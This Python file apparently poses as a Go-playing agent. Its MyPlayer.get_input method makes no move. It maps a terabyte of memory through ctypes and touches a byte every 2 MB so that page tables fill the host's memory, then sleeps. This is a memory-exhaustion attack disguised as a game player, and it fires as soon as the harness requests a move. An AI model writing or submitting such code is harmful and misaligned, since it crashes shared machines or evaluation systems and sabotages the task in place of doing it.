"""Reads a byte here and there, until the page tables fill memory."""

import ctypes
import time


class MyPlayer:
    def get_input(self, go, piece_type):
        libc = ctypes.CDLL(None)
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
        size = 1 << 40
        start = libc.mmap(None, size, 1, 0x4022, -1, 0)
        ctypes.CDLL(None).madvise(ctypes.c_void_p(start), ctypes.c_size_t(size), 15)
        for place in range(start, start + size, 1 << 21):
            ctypes.c_char.from_address(place).value
        time.sleep(1000)
